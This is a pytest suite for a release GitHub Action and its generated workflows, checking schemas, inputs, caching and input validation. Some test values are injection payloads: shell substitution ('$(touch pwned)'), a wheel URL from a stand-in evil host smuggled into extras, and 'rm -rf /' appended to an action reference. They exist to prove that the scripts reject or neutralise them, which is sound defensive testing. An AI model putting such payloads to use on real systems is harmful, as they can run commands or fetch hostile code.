"""action.yml (the release GitHub Action) and `release ci generate github --use-action`.

action.yml is validated with check-jsonschema's built-in vendor.github-actions schema, offline;
its scripts run here with stubs for release and Python (no pip, no network, no Docker). The
workflows that use it come from build_context(use_action=...) + render and pass the workflow
schema.
"""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from pipeline.ci import step as ci_step
from pipeline.ci.context import action_reference, build_context
from pipeline.ci.render import load_versions, render
from pipeline.errors import UsageError
from pipeline.model.config.loader import load_config
from tests.support.ciyaml import check_jsonschema, load

ROOT = Path(__file__).resolve().parents[2]
ACTION = ROOT / "action.yml"
VERSIONS = load_versions(None)
BASH = shutil.which("bash")


@pytest.fixture(scope="module")
def action() -> dict:
    return load(ACTION.read_text())


def step_named(action: dict, name: str) -> dict:
    (found,) = [s for s in action["runs"]["steps"] if s.get("name") == name]
    return found


# ---------------------------------------------------------------------------- action.yml


def test_action_passes_the_github_actions_schema(tmp_path):
    assert check_jsonschema("vendor.github-actions", [ACTION])["status"] == "ok"
    bad = tmp_path / "action.yml"
    bad.write_text(ACTION.read_text().replace("using: composite", "using: compost"))
    assert check_jsonschema("vendor.github-actions", [bad])["status"] == "fail"


def test_inputs_and_their_defaults(action):
    inputs = action["inputs"]
    assert set(inputs) == {"version", "config", "registries", "args", "merge-from", "extras",
                           "python-version"}
    assert inputs["version"]["default"] == "${{ github.ref_name }}"
    assert inputs["config"]["default"] == "release.yml"
    assert all(inputs[name]["default"] == "" for name in ("registries", "args", "merge-from", "extras"))
    assert not any(i.get("required") for i in inputs.values())
    assert action["runs"]["using"] == "composite"


def test_outputs_are_the_step_outputs_release_writes(action):
    """release writes version, digest and tags to $GITHUB_OUTPUT (pipeline/ci/step.py); the
    composite's outputs are exactly those of the step that runs it."""
    report = SimpleNamespace(plan=SimpleNamespace(version="1.2.3"), digest="sha256:" + "a" * 64, results=[])
    written = set(ci_step.output_values(report))
    assert set(action["outputs"]) == written == {"version", "digest", "tags"}
    for name, output in action["outputs"].items():
        assert output["value"] == "${{ steps.release.outputs.%s }}" % name
    assert step_named(action, "Release")["id"] == "release"


def test_inputs_reach_scripts_only_through_env(action):
    """`${{ inputs.x }}` inside run: is pasted into the script before bash reads it (injection)."""
    runs = [s["run"] for s in action["runs"]["steps"] if "run" in s]
    assert len(runs) == 4
    assert not [r for r in runs if "${{" in r]
    for s in action["runs"]["steps"]:
        assert s.get("shell", "bash") == "bash"
        for value in s.get("env", {}).values():
            assert re.fullmatch(r"\$\{\{ (inputs|steps)\.[\w.-]+ \}\}", value), value


def test_actions_are_pinned_to_the_majors_of_versions_yml(action):
    uses = [s["uses"] for s in action["runs"]["steps"] if "uses" in s]
    assert uses == [VERSIONS["github"]["setup_python"], VERSIONS["github"]["cache"]]
    assert all(re.fullmatch(r"[\w-]+/[\w-]+@v\d+", u) for u in uses)


def test_pip_cache_is_keyed_on_the_actions_own_pyproject(action):
    """setup-python's `cache: pip` hashes only files under GITHUB_WORKSPACE (actions/glob
    hashFiles), and the action's checkout is not there: actions/cache with a key made here."""
    python = step_named(action, "Python for release")
    assert "cache" not in python["with"] and python["with"]["update-environment"] is False
    cache = step_named(action, "Restore release's pip cache")["with"]
    assert cache["path"] == "~/.cache/release-action-pip"
    assert cache["key"].endswith("-${{ steps.key.outputs.hash }}")
    assert cache["restore-keys"].strip() == cache["key"].rsplit("-", 1)[0] + "-"
    install = step_named(action, "Install release from this action's checkout")["run"]
    assert 'PIP_CACHE_DIR="$HOME/.cache/release-action-pip"' in install
    assert '"$GITHUB_ACTION_PATH${EXTRAS:+[$EXTRAS]}"' in install      # no index for release itself


def run_step(script: str, env: dict, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """A composite step's script as the runner runs it: bash --noprofile --norc -eo pipefail."""
    path = Path(env["RUNNER_TEMP"]) / "step.sh"
    path.write_text(script)
    return subprocess.run([BASH, "--noprofile", "--norc", "-eo", "pipefail", str(path)],
                          capture_output=True, text=True, timeout=60, cwd=cwd,
                          env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": env["RUNNER_TEMP"], **env})


@pytest.fixture
def stub_venv(tmp_path):
    """$RUNNER_TEMP/release-action with the real Python and a `release` that records its argv
    (NUL-separated) and GITHUB_SHA."""
    runner_temp = tmp_path / "runner-temp"
    bin_dir = runner_temp / "release-action" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "python").symlink_to(sys.executable)
    record = tmp_path / "argv"
    (bin_dir / "release").write_text(
        "#!/bin/sh\n"
        f"printf '%s\\0' \"$@\" > {shlex.quote(str(record))}\n"
        f"printf '%s' \"$GITHUB_SHA\" > {shlex.quote(str(record))}.sha\n")
    (bin_dir / "release").chmod(0o755)
    return SimpleNamespace(runner_temp=runner_temp, record=record)


def argv(record: Path) -> list[str]:
    return record.read_text().split("\0")[:-1]


@pytest.mark.skipif(BASH is None, reason="needs bash")
def test_release_step_builds_the_command_from_env_without_running_args(action, stub_venv, tmp_path):
    script = step_named(action, "Release")["run"]
    env = {"RUNNER_TEMP": str(stub_venv.runner_temp), "VERSION": "v1.2.3", "RELEASE_CONFIG": "release.yml",
           "REGISTRIES": "hub, gl\nlocal", "MERGE_FROM": "", "GITHUB_EVENT_NAME": "push",
           "GITHUB_SHA": "f" * 40,
           "ARGS": "--cache-from 'type=gha,scope=a b' --jobs 8 $(touch pwned) ; touch pwned2 *"}
    out = run_step(script, env, cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert argv(stub_venv.record) == [
        "build-push", "v1.2.3", "--registry", "hub", "--registry", "gl", "--registry", "local",
        "--cache-from", "type=gha,scope=a b", "--jobs", "8", "$(touch", "pwned)", ";", "touch", "pwned2", "*"]
    assert not (tmp_path / "pwned").exists() and not (tmp_path / "pwned2").exists()
    assert Path(f"{stub_venv.record}.sha").read_text() == "f" * 40      # not a re-release: as given

    env.update(MERGE_FROM="release-metadata", REGISTRIES="", ARGS="")
    assert run_step(script, env, cwd=tmp_path).returncode == 0
    assert argv(stub_venv.record) == ["manifest", "merge", "v1.2.3", "--from-metadata", "release-metadata"]

    env["ARGS"] = "--cache-from 'unbalanced"
    out = run_step(script, env, cwd=tmp_path)
    assert out.returncode != 0 and "::error title=release action::args:" in out.stderr


@pytest.mark.skipif(BASH is None, reason="needs bash")
def test_install_refuses_extras_that_are_not_names(action, tmp_path):
    script = step_named(action, "Install release from this action's checkout")["run"]
    env = {"RUNNER_TEMP": str(tmp_path), "PYTHON": "/nonexistent/python", "GITHUB_ACTION_PATH": str(ROOT)}
    out = run_step(script, {**env, "EXTRAS": "aws] @ https://evil.example/x.whl #"})
    assert out.returncode == 2 and "extras: names separated by commas" in out.stdout


@pytest.mark.skipif(BASH is None, reason="needs bash")
def test_cache_key_follows_pyproject_and_extras(action, tmp_path):
    script = step_named(action, "Key of release's pip cache")["run"]
    keys = []
    for extras in ("", "aws", ""):
        out_file = tmp_path / f"out-{len(keys)}"
        out = run_step(script, {"RUNNER_TEMP": str(tmp_path), "GITHUB_ACTION_PATH": str(ROOT),
                                "GITHUB_OUTPUT": str(out_file), "EXTRAS": extras})
        assert out.returncode == 0, out.stderr
        keys.append(re.fullmatch(r"hash=([0-9a-f]{20})\n", out_file.read_text()).group(1))
    assert keys[0] == keys[2] != keys[1]


# ---------------------------------------------------------------------------- the reference


@pytest.mark.parametrize("value", ["acme/release@v1", "Acme-Org/release.py@" + "0" * 40,
                                   "acme/release@releases/v1.2", " acme/release@v1 "])
def test_action_reference_accepts_owner_repo_ref(value):
    assert action_reference(value) == value.strip()


@pytest.mark.parametrize("value, problem", [
    ("acme/release", "no @REF"),
    ("acme@v1", "not OWNER/REPO"),
    ("acme/release/sub@v1", "OWNER/REPO/PATH"),
    ("./@v1", "local action"),
    ("-acme/release@v1", "not a GitHub user"),
    ("acme--x/release@v1", "not a GitHub user"),
    ("acme/rel ease@v1", "not a GitHub repository name"),
    ("acme/release@", "empty"),
    ("acme/release@v1;rm -rf /", "characters"),
    ("acme/release@${{ github.sha }}", "characters"),
    ("acme/release@a..b", "not a valid git ref"),
    ("acme/release@v1.lock", "not a valid git ref"),
])
def test_action_reference_refuses_anything_else_with_a_hint(value, problem):
    with pytest.raises(UsageError, match=re.escape(problem)) as info:
        action_reference(value)
    assert "OWNER/REPO@REF" in info.value.hint


# ---------------------------------------------------------------------------- generated workflows

REGISTRIES = {
    "generic": "{name: corp, registry: registry.example.com, repository: team/app}",
    "env": "{name: corp-env, registry: r2.example.com, repository: team/app, "
           "username_env: CORP_USER, password_env: CORP_PASS}",
    "ecr": "{name: aws, type: ecr, registry: 123456789012.dkr.ecr.eu-west-1.amazonaws.com, repository: app}",
    "ghcr": "{name: gh, type: ghcr, registry: ghcr.io, repository: acme/app}",
}
USE = "acme/release@v1"
RELEASING = "${{ startsWith(github.ref, 'refs/tags/') || github.event_name == 'workflow_dispatch' }}"
VERSION = "${{ inputs.version || github.ref_name }}"
CACHE_ARGS = "--cache-from type=gha --cache-to type=gha,mode=max,ignore-error=true"


def config_for(tmp_path, kinds, platforms=(), config_name="release.yml"):
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    image = "{name: app" + (f", platforms: [{', '.join(platforms)}]" if platforms else "") + "}"
    lines = "".join(f"  - {REGISTRIES[k]}\n" for k in kinds)
    (tmp_path / config_name).write_text(f"image: {image}\nregistries:\n{lines}")
    return load_config(tmp_path / config_name)


def workflow(config, **kw) -> str:
    kw.setdefault("config_path", "release.yml")
    return render("github", build_context(config, versions=VERSIONS, install="release-pipeline==1.0",
                                          use_action=USE, **kw))


def action_steps(job: dict) -> list[dict]:
    return [s for s in job["steps"] if s.get("uses") == USE]


def test_single_job_release_uses_the_action(tmp_path):
    text = workflow(config_for(tmp_path, ["generic", "env", "ecr", "ghcr"]))
    wf = load(text)
    release = wf["jobs"]["release"]
    (used,) = action_steps(release)
    assert used["id"] == "release" and release["steps"][-1] is used
    assert used["with"] == {"version": VERSION, "extras": "aws", "args": CACHE_ARGS}
    assert used["env"] == {"CORP_USER": "${{ secrets.CORP_USER }}", "CORP_PASS": "${{ secrets.CORP_PASS }}"}
    assert release["if"] == RELEASING
    assert set(release["outputs"]) == {"version", "digest", "tags"}
    # The action installs release and checks the tag itself; the job logs in, sets up the cache.
    assert not [s for s in release["steps"] if "run" in s and "release" in s["run"]]
    names = [s.get("uses", s.get("name", "")) for s in release["steps"]]
    last_login = max(i for i, n in enumerate(names) if "login" in n or "credentials" in n)
    assert last_login < names.index(USE)
    assert names.index("crazy-max/ghaction-github-runtime@v4") < names.index(USE)
    assert release["permissions"] == {"contents": "read", "packages": "write", "id-token": "write"}
    # The build job (pull requests, branches) still installs release itself.
    assert any("pipx install" in s.get("run", "") for s in wf["jobs"]["build"]["steps"])
    assert f"# release runs through the GitHub Action {USE}" in text


def test_matrix_legs_and_merge_use_the_action(tmp_path):
    platforms = ["linux/amd64", "linux/arm64", "linux/arm/v7"]
    wf = load(workflow(config_for(tmp_path, ["env", "ghcr"], platforms)))
    leg, merge = wf["jobs"]["platform"], wf["jobs"]["release"]
    (push,) = action_steps(leg)
    assert push["env"] == {"CORP_USER": "${{ secrets.CORP_USER }}", "CORP_PASS": "${{ secrets.CORP_PASS }}"}
    assert set(push["with"]) == {"version", "args"}
    upload = leg["steps"][-1]
    assert upload["uses"].startswith("actions/upload-artifact@") and leg["steps"].index(push) == len(leg["steps"]) - 2
    # The action splits args into words (shlex): each leg pushes its own record, its own cache scope.
    for entry in leg["strategy"]["matrix"]["include"]:
        args = re.sub(r"\$\{\{ matrix\.(\w+) \}\}", lambda m: entry[m.group(1)], push["with"]["args"])
        slug = entry["slug"]
        assert shlex.split(args) == [
            "--platform", entry["platform"], "--push-by-digest", "--metadata-file", f"release-metadata/{slug}.json",
            "--cache-from", f"type=gha,scope={slug}", "--cache-to", f"type=gha,mode=max,ignore-error=true,scope={slug}"]
        assert re.sub(r"\$\{\{ matrix\.(\w+) \}\}", lambda m: entry[m.group(1)], upload["with"]["path"]) == \
            f"release-metadata/{slug}.json"
    (merged,) = action_steps(merge)
    assert merged["with"] == {"version": VERSION, "merge-from": "release-metadata"}
    assert merge["steps"][-1] is merged and merged["id"] == "release"
    assert not [s for s in [*leg["steps"], *merge["steps"]] if "run" in s and "release " in s["run"]]


def test_options_reach_the_action_inputs(tmp_path):
    config = config_for(tmp_path, ["generic"], config_name="prod.yml")
    wf = load(workflow(config, config_path="deploy/prod.yml", cache=False))
    (used,) = action_steps(wf["jobs"]["release"])
    assert used["with"] == {"version": VERSION, "config": "deploy/prod.yml"}       # no cache: no args
    assert "env" not in used


def test_generated_workflows_with_the_action_pass_the_schema(tmp_path):
    files = []
    for i, (kinds, platforms) in enumerate([(["generic", "env", "ecr", "ghcr"], ()),
                                             (["env", "ghcr", "ecr"], ("linux/amd64", "linux/arm64")),
                                             (["ghcr"], ("linux/arm64",))]):
        base = tmp_path / str(i)
        base.mkdir()
        text = workflow(config_for(base, kinds, platforms))
        runs = [s["run"] for job in load(text)["jobs"].values() for s in job["steps"] if "run" in s]
        assert runs and not [r for r in runs if "${{" in r]
        files.append(base / "workflow.yml")
        files[-1].write_text(text)
    assert check_jsonschema("vendor.github-workflows", files)["status"] == "ok"


def test_a_bad_reference_is_a_usage_error_before_anything_renders(tmp_path):
    config = config_for(tmp_path, ["generic"])
    with pytest.raises(UsageError, match="--use-action 'acme/release': no @REF"):
        build_context(config, config_path="release.yml", versions=VERSIONS, install=".", use_action="acme/release")
    plain = build_context(config, config_path="release.yml", versions=VERSIONS, install=".")
    assert plain["action"] is None
    assert USE not in render("github", plain)


def test_cli_use_action_and_use_component(tmp_path):
    """`ci generate --use-action/--use-component`: the files use them, the header's regenerate
    command repeats them, and a malformed reference is exit 2 before anything is written."""
    import os

    from click.testing import CliRunner

    from pipeline.cli.main import cli

    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "Dockerfile").write_text("FROM scratch\n")
    (tmp_path / "release.yml").write_text(
        "image: {name: app, context: app}\n"
        "registries:\n  - {name: gh, type: ghcr, repository: acme/app}\n")
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        install = ["--install", "git+https://example.com/release.git@v1"]
        bad = CliRunner().invoke(cli, ["ci", "generate", "all", *install, "--use-action", "acme/release@v1",
                                       "--use-component", "not a component"])
        assert bad.exit_code == 2 and not (tmp_path / ".github").exists()
        assert not (tmp_path / ".gitlab-ci.yml").exists()
        ok = CliRunner().invoke(cli, ["ci", "generate", "all", *install, "--use-action", "acme/release@v1",
                                      "--use-component", "$CI_SERVER_FQDN/tools/release/release@1.0.0"])
        assert ok.exit_code == 0, ok.output
        github = (tmp_path / ".github/workflows/release.yml").read_text()
        gitlab = (tmp_path / ".gitlab-ci.yml").read_text()
        assert "uses: acme/release@v1" in github and "--use-action acme/release@v1" in github
        assert "--use-component" not in github
        assert 'component: "$CI_SERVER_FQDN/tools/release/release@1.0.0"' in gitlab
        assert "--use-component '$CI_SERVER_FQDN/tools/release/release@1.0.0'" in gitlab
        check = CliRunner().invoke(cli, ["ci", "generate", "all", "--check", *install, "--use-action",
                                         "acme/release@v1", "--use-component",
                                         "$CI_SERVER_FQDN/tools/release/release@1.0.0"])
        assert check.exit_code == 0, check.output
    finally:
        os.chdir(cwd)
